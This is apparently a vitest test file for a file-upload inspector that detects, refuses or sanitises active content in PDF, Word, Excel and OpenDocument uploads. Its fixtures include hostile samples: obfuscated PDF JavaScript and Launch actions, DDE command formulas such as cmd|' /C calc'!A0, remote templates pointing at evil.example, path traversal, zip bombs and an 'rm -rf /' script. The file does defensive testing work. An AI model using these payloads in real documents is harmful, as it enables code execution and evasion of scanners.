import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  activePdf,
  deflated,
  docxOf,
  JPEG,
  objectStream,
  openDocumentOf,
  PNG,
  pdfFrom,
  pdfOf,
  TIFF,
  xlsxOf,
  zipOf,
} from '../testing/sample-files.ts';
import { findPdfFault } from './find-pdf-fault.ts';
import { inspectFile } from './inspect-file.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'prorata-inspection-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function inspect(content: Buffer) {
  const file = path.join(folder, randomUUID());
  await writeFile(file, content);
  return inspectFile({ path: file, cleanPath: `${file}.clean` });
}

/** What is left of a file that is rid of something; `undefined` where it is left as it is. */
async function cleaned(content: Buffer): Promise<Buffer | undefined> {
  const found = await inspect(content);
  if (found.kind !== 'welcome') throw new Error(`It is not welcome: ${JSON.stringify(found)}`);
  if (found.cleaned === null) return undefined;
  const left = await readFile(found.cleaned.path);
  expect(found.cleaned).toMatchObject({
    sizeBytes: left.length,
    sha256: createHash('sha256').update(left).digest('hex'),
  });
  return left;
}

const OFFICE = 'application/vnd.openxmlformats-officedocument';
const OPEN_DOCUMENT = 'application/vnd.oasis.opendocument';

async function codeOf(content: Buffer): Promise<string> {
  const found = await inspect(content);
  return found.kind === 'refused' ? found.refusal : `accepted ${found.kind}`;
}

describe('what a file is', () => {
  it.each([
    ['a PDF', pdfOf(), 'application/pdf'],
    ['a PNG', PNG, 'image/png'],
    ['a JPEG', JPEG, 'image/jpeg'],
    ['a document of Word', docxOf(), `${OFFICE}.wordprocessingml.document`],
    ['a workbook of Excel', xlsxOf(), `${OFFICE}.spreadsheetml.sheet`],
    ['an open text', openDocumentOf('text'), `${OPEN_DOCUMENT}.text`],
    ['an open spreadsheet', openDocumentOf('spreadsheet'), `${OPEN_DOCUMENT}.spreadsheet`],
  ])('%s is told by its content', async (_, content, mediaType) => {
    expect(await inspect(content)).toEqual({ kind: 'welcome', mediaType, cleaned: null });
  });

  it.each([
    ['a web page', '<!doctype html><script>alert(1)</script>'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['plain text', 'The creditor claims 100 euros.'],
    ['a program', 'MZ\x90\x00\x03'],
    ['a script', '#!/bin/sh\nrm -rf /'],
    ['a page before a PDF', `<html>${pdfOf().toString('latin1')}`],
    ['a single sign', '%'],
  ])('%s is refused, whatever it is called', async (_, content) => {
    expect(await codeOf(Buffer.from(content, 'latin1'))).toBe('upload-type-refused');
  });

  it('a TIFF is refused with a way out, because no browser shows it', async () => {
    expect(await codeOf(TIFF)).toBe('upload-tiff');
  });

  it('an archive is refused, and so is the old format of Word', async () => {
    expect(await codeOf(zipOf([{ name: 'invoice.exe', content: 'MZ' }]))).toBe('upload-type-refused');
    const old = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1_000)]);
    expect(await codeOf(old)).toBe('upload-type-refused');
  });

  it('an archive of rubbish is refused, as a document is that a bad connection cut off anywhere', async () => {
    const rubbish = Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(400)]);
    expect(await codeOf(rubbish)).toBe('upload-unreadable');
    for (const whole of [docxOf(), xlsxOf(), openDocumentOf('text')]) {
      for (let length = 4; length < whole.length; length += 13) {
        expect(await codeOf(whole.subarray(0, length))).toMatch(/^upload-(unreadable|type-refused)$/);
      }
    }
  });

  it('a document with any damaged byte gets an answer', async () => {
    const whole = docxOf();
    for (let at = 0; at < whole.length; at += 5) {
      const damaged = Buffer.from(whole);
      damaged.writeUInt8(damaged.readUInt8(at) ^ 0xff, at);
      expect(await codeOf(damaged)).toMatch(/^(upload-|accepted)/);
    }
  });
});

const ROOT = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
];
const SCRIPT = '<< /S /JavaScript /JS (app.alert) >>';
const OPENS_LINK = '<< /S /URI /URI (https://evil.example) >>';
const LINK = '<< /Subtype /Link /A << /S /URI /URI (https://www.kvk.example) >> >>';
const CARRIED = '<< /Length 13 >>\nstream\ncarried along\nendstream';
const ACTIVE_OBJECTS: readonly (readonly [string, string])[] = [
  ['a file that says nothing of itself', '/AF [<< /F (a.exe) /EF << /F 4 0 R >> >>]'],
  ['files that belong together', '/Pieces << /RF << /F [(a) 4 0 R] >> >>'],
  ['a collection of files', '/Collection << /Schema 4 0 R >>'],
  ['a screen that plays', '/Marks [<< /Type /Annot /Subtype /Screen /A 4 0 R >>]'],
  ['a scene that runs', '/Marks [<< /Type /Annot /Subtype /3D /3DD 4 0 R >>]'],
  ['a thread of another file', '/Marks [<< /S /Thread /F (a.pdf) /D 4 0 R >>]'],
  ['what a reader must have', '/Requirements [<< /Type /Requirement /RH 4 0 R >>]'],
];

/** What programs append that change a file: the object anew, and a table that leads from it to what was there. */
function withUpdate(content: Buffer, number: number, object: string): Buffer {
  const previous = content.toString('latin1').lastIndexOf('xref\n0 ');
  const place = String(content.length).padStart(10, '0');
  const added = `${number} 0 obj\n${object}\nendobj\n`;
  const table = `xref\n${number} 1\n${place} 00000 n \ntrailer << /Size 9 /Root 1 0 R /Prev ${previous} >>\n`;
  const end = `startxref\n${content.length + added.length}\n%%EOF\n`;
  return Buffer.concat([content, Buffer.from(added + table + end, 'latin1')]);
}

/** Bytes as a picture has, the same each time (xorshift). */
function randomBytes(count: number): Buffer {
  const bytes = Buffer.alloc(count);
  let state = 0x9e3779b9;
  for (let at = 0; at + 4 <= count; at += 4) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes.writeInt32LE(state, at);
  }
  return bytes;
}

describe('a PDF', () => {
  it.each([
    [
      'compressed objects that nobody can read',
      '<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxyz\nendstream',
    ],
    ['a bomb of objects', objectStream(' '.repeat(70_000_000))],
  ])('with %s is refused', async (_, object) => {
    expect(await codeOf(pdfOf('x', object))).toBe('upload-unsafe');
  });

  it.each([
    ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
    ['a script under a disguised name', '<< /S /J#61va#53cript /JS (app.alert(1)) >>'],
    ['a program to start', '<< /S /Launch /F (calc.exe) >>'],
    ['embedded media', '<< /Type /Annot /Subtype /RichMedia >>'],
    ['a form with scripts of its own', '<< /XFA 7 0 R >>'],
    ['a form that is sent away', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['a file inside', '<< /Type /Filespec /EF << /F 9 0 R >> /UF (a.exe) /Kind /EmbeddedFile >>'],
    ['a script among compressed objects', objectStream('5 0 << /S /JavaScript /JS (x) >>')],
    ['a disguised script among compressed objects', objectStream('5 0 << /S/#4Aava#53cript >>')],
  ])('with %s that hangs nowhere is written anew without it', async (_, object) => {
    const left = await cleaned(pdfOf('x', object));
    expect(left && findPdfFault(left)).toBeUndefined();
    expect(left?.toString('latin1')).toContain('/MediaBox');
  });

  it('loses what it does wherever it hangs, and keeps its pages, its links and its words', async () => {
    const left = await cleaned(activePdf());
    const text = left?.toString('latin1') ?? '';
    expect(left && findPdfFault(left)).toBeUndefined();
    for (const gone of ['app.alert', 'calc.exe', 'evil.example', 'MZ', 'ByteRange', 'xdp']) {
      expect(text).not.toContain(gone);
    }
    expect(text).toContain('https://www.kvk.example');
    expect(text).toContain('(This page stays) Tj');
    expect(text).toContain('/Count 1');
  });

  it.each(ACTIVE_OBJECTS)('loses %s in the catalog', async (_, entry) => {
    const left = await cleaned(pdfFrom([`<< /Type /Catalog /Pages 2 0 R ${entry} >>`, ...PAGES, CARRIED]));
    expect(left && findPdfFault(left)).toBeUndefined();
    expect(left?.includes('carried along')).toBe(false);
  });

  it.each([
    ['in the middle of a page', `<< /Length 9 >>\nstream\nBT 9 0 obj ${SCRIPT} endobj ET\nendstream`],
    ['behind the length that a picture claims', `<< /Length 0 >>\nstream\n9 0 obj${SCRIPT}\nendstream`],
    ['behind a comment between its numbers', `(text) endobj\n9 %1\n %2\n0%3\nobj ${SCRIPT}`],
    ['behind what never closes', `<< /A [ (x) >> ${SCRIPT}`],
    ['where a closing closes nothing', `<< /A ] /B ${SCRIPT} >>`],
    ['where only the codes of letters belong', `<< /A <41/JS (app.alert)> >>`],
    ['behind a blank that only some readers know', '<< /S /A /JS\x80(app.alert) >>'],
    ['under a name that only some readers end', '<< /S /A /JS#00x (app.alert) >>'],
    ['with a comment before it', '<< /S /A /JS %(\n(app.alert) >>'],
  ])('with a script %s counts as doing something', (_, object) => {
    expect(findPdfFault(pdfFrom([ROOT, ...PAGES, object]))).toBe('active');
  });

  it('with a stream within what is not closed is refused, because no two readers read the same', async () => {
    const torn = `<< /A << >> stream ( endstream ${SCRIPT} >>`;
    expect(await codeOf(pdfFrom([ROOT, ...PAGES, torn]))).toBe('upload-unsafe');
  });

  it('loses a script that a later part of the file adds', async () => {
    const root = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>`;
    const left = await cleaned(withUpdate(pdfFrom([ROOT, ...PAGES]), 1, root));
    expect(left?.includes('app.alert')).toBe(false);
    // Taken back by a later one, it still lies in what was signed.
    const takenBack = withUpdate(withUpdate(pdfFrom([ROOT, ...PAGES]), 1, root), 1, ROOT);
    expect((await cleaned(takenBack))?.includes('app.alert')).toBe(false);
  });

  it.each([
    ['says only in numbers that it is one', (packed) => packed.replace('/Type /ObjStm ', '')],
    ['says it in codes', (packed) => packed.replace('/ObjStm', '/#4fbjS#74m')],
  ] as [string, (packed: string) => string][])(
    'loses a script in a stream of objects that %s',
    async (_, change) => {
      const packed = Buffer.from(change(objectStream(`5 0 ${SCRIPT}`).toString('latin1')), 'latin1');
      expect((await cleaned(pdfFrom([ROOT, ...PAGES, packed])))?.includes('app.alert')).toBe(false);
    },
  );

  it('with a stream of objects that is packed once more is written anew: it says something else unpacked', async () => {
    const packed = objectStream('5 0 << /Type /Font >>').toString('latin1');
    const twice = packed.replace('/FlateDecode', '[/FlateDecode /ASCIIHexDecode]');
    expect(await cleaned(pdfFrom([ROOT, ...PAGES, Buffer.from(twice, 'latin1')]))).toBeDefined();
  });

  it('is judged also where packed objects begin in the middle of a text', async () => {
    const packed = objectStream(`5 1 (${SCRIPT})`);
    expect(findPdfFault(pdfFrom([ROOT, ...PAGES, packed]))).toBe('active');
  });

  it('stays to the byte with scans of several megabytes, which hold any bytes by chance', async () => {
    const scan = randomBytes(4_000_000);
    const bytes = ['/JS\x80', '/AA ', '/EF<', '/AF\n1', '/3D ', '/OpenAction ', '/Launch ', '/Encrypt 5 0 R'];
    for (const [index, each] of bytes.entries()) scan.write(each, 1_000_000 + 100 * index, 'latin1');
    const dictionary = `<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length ${scan.length} >>`;
    const picture = Buffer.concat([Buffer.from(`${dictionary}\nstream\n`), scan, Buffer.from('\nendstream')]);
    const content = pdfFrom([ROOT, ...PAGES, picture, picture]);
    expect(await inspect(content)).toEqual({ kind: 'welcome', mediaType: 'application/pdf', cleaned: null });
    // And where something else must go, the scan is kept.
    const active = pdfFrom([ROOT.replace('>>', `/AA ${SCRIPT} /Image 4 0 R >>`), ...PAGES, picture]);
    expect((await cleaned(active))?.includes(scan)).toBe(true);
  });

  it.each([
    [
      'turns its pages, blends its colours and threads its articles',
      '/Trans << /S /Dissolve >> /BM /Screen /T << /Type /Thread >>',
    ],
    ['says in a text what would be a script', '/Title (how to write /JS \\(x\\) and /AA << >>) % /JS (x)\n'],
    ['names letters as others name scripts', '/Differences [65 /AA /JS /EF /AF]'],
    ['is signed', '/Perms << /DocMDP 9 0 R >> /SigFlags 3 /ByteRange [0 1 2 3]'],
  ])('stays to the byte when it %s', async (_, said) => {
    expect(await cleaned(pdfFrom([ROOT.replace('>>', `${said} >>`), ...PAGES]))).toBeUndefined();
  });

  it('that opens at a page which another object names, and has links, loses nothing of it', async () => {
    const root = ROOT.replace('>>', `/OpenAction 4 0 R /Marks [${LINK}] >>`);
    const left = await cleaned(pdfFrom([root, ...PAGES, '[3 0 R /Fit]']));
    expect(left?.includes('https://www.kvk.example')).toBe(true);
    expect(left?.toString('latin1')).toMatch(/\/OpenAction\s*\[\s*\d+ 0 R\s*\/Fit/);
  });

  it.each([
    ['an action', '/OpenAction << /Type /Action /S /GoTo /D [3 0 R /XYZ 0 842 null] >>'],
    ['an action with a link beside it', `/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/Marks [${LINK}]`],
    ['an action to a place with a name', '/OpenAction << /D (chapter.1) /S /GoTo >>'],
    ['an action of another object', '/OpenAction 4 0 R'],
    ['a page of another object', '/OpenAction 5 0 R'],
    ['an action whenever a page is left', '/AA << /O << /S /GoTo /D /first >> /C 4 0 R >>'],
    ['actions of another object', '/AA 6 0 R'],
  ])('that only turns to a page with %s stays to the byte', async (_, entry) => {
    const objects = ['<< /S /GoTo /D [3 0 R /Fit] >>', '[3 0 R /Fit]', '<< /O 4 0 R >>'];
    const root = ROOT.replace('>>', `${entry} >>`);
    expect(await cleaned(pdfFrom([root, ...PAGES, ...objects]))).toBeUndefined();
    const packed = objectStream(`4 0 ${objects[0]} /Root ${root}`);
    expect(await cleaned(pdfFrom([ROOT, ...PAGES, packed]))).toBeUndefined();
  });

  it.each([
    ['opens a link', '/OpenAction << /S /URI /URI (https://evil.example) >>'],
    ['prints', '/OpenAction << /S /Named /N /Print >>'],
    ['turns to a page of another file', '/OpenAction << /S /GoToR /F (evil.pdf) /D [0 /Fit] >>'],
    ['turns to a page of a file in it', '/OpenAction << /S /GoToE /D [0 /Fit] >>'],
    ['goes on with a link', `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${OPENS_LINK} >>`],
    ['goes on with what another object says', '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>'],
    ['goes on in the place of its page', `/OpenAction << /S /GoTo /D ${OPENS_LINK} >>`],
    ['goes on behind it', `/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ${OPENS_LINK}`],
    [
      'says twice what it does',
      '/OpenAction << /S /GoTo /S /URI /D [3 0 R /Fit] /URI (https://evil.example) >>',
    ],
    ['says it under a disguised name', '/OpenAction << /S /GoTo /#53 /URI /URI (https://evil.example) >>'],
    ['says it behind a comment', `/OpenAction << /S /GoTo %>>\n /Next ${OPENS_LINK} >>`],
    ['opens a link of another object', '/OpenAction 4 0 R'],
    ['opens a link whenever a page is turned to', `/AA << /O ${OPENS_LINK} >>`],
    ['opens a link of another object whenever it is closed', '/AA << /WC 4 0 R >>'],
    ['opens a link at a moment that another object names', '/AA 5 0 R'],
  ])('that %s when it is opened is rid of it', async (_, entry) => {
    const root = ROOT.replace('>>', `${entry} >>`);
    const objects = [OPENS_LINK, '<< /O 4 0 R >>'];
    const left = await cleaned(pdfFrom([root, ...PAGES, ...objects]));
    expect(left && findPdfFault(left)).toBeUndefined();
    expect(left?.includes('/MediaBox')).toBe(true);
    expect(left?.includes('evil')).toBe(false);
    // Also where both lie among packed objects.
    const packed = objectStream(`4 0 ${OPENS_LINK} ${root}`);
    expect(findPdfFault(pdfFrom([ROOT, ...PAGES, packed]))).toBe('active');
  });

  it.each([
    ['a script', SCRIPT],
    ['a program', '<< /S /Launch /F (calc.exe) >>'],
    ['a form that is sent', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ])('that turns to a page and goes on with %s keeps the page and loses the rest', async (_, next) => {
    const opening = `<< /S /GoTo /D [3 0 R /Fit] /Next [${next}] >>`;
    for (const [entry, object] of [
      [opening, '<<>>'],
      ['4 0 R', opening],
    ] as const) {
      const root = ROOT.replace('>>', `/OpenAction ${entry} >>`);
      const left = await cleaned(pdfFrom([root, ...PAGES, object]));
      expect(left?.toString('latin1')).toMatch(/\/OpenAction\s*\[\s*\d+ 0 R\s*\/Fit/);
      expect(left?.toString('latin1')).not.toMatch(/Next|app\.alert|calc|evil/);
    }
  });

  it('whose opening is written so that it could be read in many ways is judged at once', () => {
    const refs = '11 1 R '.repeat(60);
    const entry = `/OpenAction << /S /GoTo /D [${refs}/Fit ${'1 '.repeat(100)}! >>`;
    expect(findPdfFault(pdfFrom([ROOT, ...PAGES, `<< ${entry.repeat(2_000)} >>`]))).toBe('active');
  });

  it('becomes the same bytes each time, so that a second time is noticed', async () => {
    expect(await cleaned(activePdf())).toEqual(await cleaned(activePdf()));
  });

  it('that turns to a page when it is opened, or holds compressed objects, is welcome', async () => {
    expect(await codeOf(pdfOf('x', objectStream('5 0 << /Type /Font >>')))).toContain('accepted');
    expect(await codeOf(pdfOf('x', '<< /Launched true /JavaScripts 1 >>'))).toContain('accepted');
  });

  it('is gone through once, whatever it is full of', async () => {
    // With a second look at what went before, each of these would take hours.
    expect(await codeOf(pdfOf('x', 'stream\n'.repeat(1_000_000)))).toContain('accepted');
    expect(await codeOf(pdfOf('x', '/ObjStm stream\n'.repeat(1_000_000)))).toBe('upload-unsafe');
    expect(await codeOf(pdfOf('x', ...Array(10_001).fill(objectStream('5 0 <<>>'))))).toBe('upload-unsafe');
  });

  it('that is encrypted is refused, because nobody can look into it', async () => {
    expect(await codeOf(pdfOf('x', '<< /Encrypt 9 0 R >>'))).toBe('upload-protected');
  });

  it('that was cut off is refused', async () => {
    expect(await codeOf(pdfOf().subarray(0, 150))).toBe('upload-unreadable');
  });

  it('is also searched where it is somebody else’s archive or page', async () => {
    const archive = Buffer.concat([pdfOf(), zipOf([{ name: 'a.html', content: '<script/>' }])]);
    // Stored under its first nature, and served as nothing else.
    expect(await inspect(archive)).toMatchObject({ mediaType: 'application/pdf' });
    const hidden = Buffer.concat([pdfOf('x', '<< /S /Launch >>'), zipOf([{ name: 'a' }])]);
    expect((await cleaned(hidden))?.includes('PK')).toBe(false);
  });
});

function relation(type: string, target: string, mode = 'External'): string {
  const schema = 'http://schemas.openxmlformats.org';
  return `<Relationships xmlns="${schema}/package/2006/relationships"><Relationship Id="r" Type="${schema}/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
}

const settings = (content: string) => docxOf({ name: 'word/_rels/settings.xml.rels', content });

function sheetWith(formulas: string): Buffer {
  return xlsxOf({ name: 'xl/worksheets/sheet2.xml', content: `<worksheet>${formulas}</worksheet>` });
}

describe('a document of an office program', () => {
  it.each([
    ['macros', docxOf({ name: 'word/vbaProject.bin', content: 'x' }), 'macros'],
    ['controls', xlsxOf({ name: 'xl/activeX/activeX1.bin', content: 'x' }), 'macros'],
    ['macros under another name', settings(relation('vbaProject', 'harmless.bin', 'Internal')), 'macros'],
    [
      'macros of OpenDocument',
      openDocumentOf('text', { name: 'Basic/Standard/Module1.xml', content: 'x' }),
      'macros',
    ],
    [
      'scripts of OpenDocument',
      openDocumentOf('spreadsheet', { name: 'Scripts/python/a.py', content: 'x' }),
      'macros',
    ],
    [
      'a script that waits for an event',
      openDocumentOf('text', { name: 'styles.xml', content: '<a:b><script:event-listener/></a:b>' }),
      'macros',
    ],
    [
      'a template from elsewhere',
      settings(relation('attachedTemplate', 'https://evil.example/a.dotm')),
      'remote-content',
    ],
    [
      'a template of another machine',
      settings(relation('attachedTemplate', '\\\\evil\\a.dotm')),
      'remote-content',
    ],
    [
      'a template under a disguised word',
      settings(relation('attachedTemplate', 'https&#58;//evil.example', '&#69;xternal')),
      'remote-content',
    ],
    [
      'a template in wide letters',
      docxOf({
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(
          `\ufeff${relation('attachedTemplate', 'https://evil.example/a.dotm')}`,
          'utf16le',
        ),
      }),
      'remote-content',
    ],
    [
      'a picture from elsewhere',
      settings(relation('image', 'https://evil.example/pixel.png')),
      'remote-content',
    ],
    [
      'a command that starts a program',
      docxOf({
        name: 'word/footer1.xml',
        content: '<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:p>',
      }),
      'remote-content',
    ],
    [
      'a command in a section of plain characters',
      docxOf({
        name: 'word/footer1.xml',
        content: '<w:p><w:instrText><![CDATA[DDEAUTO c:\\cmd]]></w:instrText></w:p>',
      }),
      'remote-content',
    ],
    ['a DDE formula', sheetWith("<f>cmd|' /C calc'!A0</f>"), 'remote-content'],
    ['a DDE formula of a quoted program', sheetWith("<f>1+'my app'|'topic'!item</f>"), 'remote-content'],
    ['a DDE formula in entities', sheetWith('<f>cmd&#124;topic!A0</f>'), 'remote-content'],
    [
      'a DDE formula in a section of plain characters',
      sheetWith('<f>cm<!-- -->d<![CDATA[|topic!A0]]></f>'),
      'remote-content',
    ],
    [
      'a DDE formula that a cell is checked with',
      sheetWith('<formula1>cmd|topic!A0</formula1>'),
      'remote-content',
    ],
    [
      'a DDE formula under a name',
      xlsxOf({ name: 'xl/names.xml', content: '<definedName name="a">cmd|topic!A0</definedName>' }),
      'remote-content',
    ],
    ['a DDE function', sheetWith('<f>1+DDE ("soffice";"a.ods";"A1")</f>'), 'remote-content'],
    [
      'a DDE function of OpenDocument',
      openDocumentOf('spreadsheet', {
        name: 'styles.xml',
        content: '<t:cell t:formula="of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)"/>',
      }),
      'remote-content',
    ],
    [
      'a DDE formula of Excel in OpenDocument',
      openDocumentOf('spreadsheet', {
        name: 'styles.xml',
        content: '<t:cell t:formula="msoxl:=cmd|topic!A0"/>',
      }),
      'remote-content',
    ],
    [
      'a template of OpenDocument from elsewhere',
      openDocumentOf('text', {
        name: 'meta.xml',
        content: '<m:meta><m:template x:href="https://evil.example/a.ott"/></m:meta>',
      }),
      'remote-content',
    ],
    ['a text that brings its own', settings(relation('aFChunk', 'chunk.rtf', 'Internal')), 'embedded-object'],
    [
      'a web page that is taken in, before anything speaks of it',
      docxOf(
        { name: 'word/chunk.html', content: '<html><br></html>' },
        { name: 'word/_rels/document.xml.rels', content: relation('aFChunk', 'chunk.html', 'Internal') },
      ),
      'embedded-object',
    ],
    [
      'a place where another text is taken in',
      docxOf({ name: 'word/footer1.xml', content: '<w:p><w:altChunk r:id="r"/></w:p>' }),
      'embedded-object',
    ],
    [
      'figures from a database',
      xlsxOf({
        name: 'xl/connections.xml',
        content:
          '<connections><connection refreshOnLoad="1"><dbPr connection="x"/></connection></connections>',
      }),
      'remote-content',
    ],
    [
      'figures from a web page, under another name',
      xlsxOf({ name: 'xl/figures.dat', content: '<x:a><x:webPr url="https://evil.example"/></x:a>' }),
      'remote-content',
    ],
    [
      'a command in a part of any name, in wide letters',
      docxOf({
        name: 'word/note',
        content: Buffer.from('\ufeff <w:p><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:p>', 'utf16le'),
      }),
      'remote-content',
    ],
    [
      'a drawing that is said to be something else',
      docxOf({
        name: 'more.xml',
        content: '<Types><Override PartName="/word/media/a.svg" ContentType="application/xml"/></Types>',
      }),
      'unsafe',
    ],
    ['an object', docxOf({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), 'embedded-object'],
    [
      'an object under another name',
      settings(relation('oleObject', 'media/a.png', 'Internal')),
      'embedded-object',
    ],
    [
      'an object of OpenDocument',
      openDocumentOf('text', {
        name: 'META-INF/manifest.xml',
        content: '<m:e m:media-type="application/vnd.sun.star.oleobject"/>',
      }),
      'embedded-object',
    ],
    [
      'macros in the figures of a diagram',
      docxOf({
        name: 'word/embeddings/figures.xlsx',
        content: xlsxOf({ name: 'xl/vbaProject.bin', content: 'x' }),
      }),
      'macros',
    ],
    ['a document type of its own', settings('<!DOCTYPE a [<!ENTITY b "c">]><a/>'), 'unsafe'],
    ['a way out of its folder', docxOf({ name: '../../evil.xml', content: 'x' }), 'unsafe'],
    ['a gigabyte in a few bytes', docxOf({ name: 'word/media/a.png', claimedBytes: 0xffff_fff0 }), 'unsafe'],
    ['a ratio of no document', docxOf({ name: 'word/media/a.png', claimedBytes: 100_000_000 }), 'unsafe'],
    [
      'more in it than it says',
      docxOf({ name: 'word/media/a.png', content: deflated(90_000), method: 8, claimedBytes: 10 }),
      'unreadable',
    ],
  ])('with %s is refused', async (_, content, code) => {
    expect(await codeOf(content)).toBe(`upload-${code}`);
  });

  it.each([
    [
      'formulas in which a bar is only text',
      sheetWith(`<f>"a|b"&amp;'x|y'!A1&amp;T['a|b]&amp;"DDE(1)"</f><f>ADDED(1)</f><m:f><m:t>a|b</m:t></m:f>`),
    ],
    [
      'rows of an array in OpenDocument',
      openDocumentOf('spreadsheet', {
        name: 'styles.xml',
        content: '<t:cell t:formula="of:=SUM({1;2|3;4})"/>',
      }),
    ],
    ['links to follow', settings(relation('hyperlink', 'https://www.kvk.example'))],
    [
      'a template of the own machine',
      settings(relation('attachedTemplate', 'file:///C:\\Templates\\brief.dotx')),
    ],
    [
      'a drawing, and bytes that are no XML',
      docxOf(
        {
          name: 'word/media/a.svg',
          content: '<!DOCTYPE svg [<!ENTITY ns "http://ns.example">]><svg xmlns="&ns;"/>',
        },
        { name: 'word/printer.bin', content: Buffer.from([0, 0, 1, 0x3c, 0]) },
      ),
    ],
    ['the figures of a diagram', docxOf({ name: 'word/embeddings/figures.xlsx', content: xlsxOf() })],
    [
      'deflated parts',
      docxOf({ name: 'word/media/a.png', content: deflated(900), method: 8, claimedBytes: 900 }),
    ],
  ])('with %s is welcome', async (_, content) => {
    expect(await codeOf(content)).toBe('accepted welcome');
  });

  it('that is encrypted is refused', async () => {
    const locked = docxOf({ name: 'word/secret.xml', content: 'x', isEncrypted: true });
    expect(await codeOf(locked)).toBe('upload-protected');
  });

  it('may say its sizes in 64 bits, and lies in them no better', async () => {
    const sheet = { name: 'xl/worksheets/sheet1.xml', content: '<sheet/>', hasLongSize: true };
    expect(await codeOf(xlsxOf(sheet))).toContain('accepted');
    expect(await codeOf(xlsxOf({ ...sheet, claimedBytes: 3 * 1024 ** 3 }))).toBe('upload-unsafe');
  });

  it('whose table of contents does not add up is refused', async () => {
    const whole = docxOf();
    const tampered = Buffer.from(whole);
    tampered.writeUInt16LE(1, whole.length - 12);
    expect(await codeOf(tampered)).toBe('upload-unreadable');
    expect(await codeOf(whole.subarray(0, whole.length - 10))).toBe('upload-unreadable');
  });
});
